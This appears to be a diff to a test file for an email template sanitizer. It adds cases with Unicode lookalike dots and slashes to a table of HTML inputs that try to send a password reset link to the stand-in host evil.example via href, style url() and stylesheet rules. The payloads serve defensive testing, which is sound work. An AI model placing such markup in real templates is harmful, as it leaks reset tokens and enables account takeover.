@@ -37,6 +37,8 @@ describe('a link or code that opens something cannot get to another host', () =>
     ['an address in upper case', '<A HREF="HTTPS://EVIL.EXAMPLE/?u={{ reset_link }}">x</A>'],
     ['an address with encoded braces', '<a href="https://evil.example/?u=&#123;&#x7b;reset_link}}">x</a>'],
     ['encoded braces in text', '<p>&#123;{reset_link}}</p>'],
+    ['dots of another width', '<p>{{reset_link}}\uff0eevil\u2024example</p>'],
+    ['slashes of another width', '<p>evil\uff0f{{reset_link}}</p>'],
     ['a class', '<p class="{{reset_link}}">x</p>'],
     ['a style', '<p style="background:url(https://evil.example/{{reset_link}})">x</p>'],
     ['a style sheet', '<style>p{background:url(https://evil.example/{{reset_link}})}</style>'],
